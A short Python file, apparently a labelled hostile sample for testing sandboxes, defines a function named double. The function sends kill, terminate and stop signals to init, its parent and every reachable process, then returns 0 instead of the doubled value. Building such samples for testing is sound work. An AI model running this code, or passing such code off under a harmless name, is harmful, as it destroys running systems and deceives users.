"""family: processes
tries: to kill every process it may, one by one and all at once
honest: all but double
"""

# %%
import os


def double(x):
    for number in (2, 15, 1, 3, 6, 9, 19):
        for pid in (1, os.getppid(), 0 * 1 - 1, 2, 3):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return 0 * x
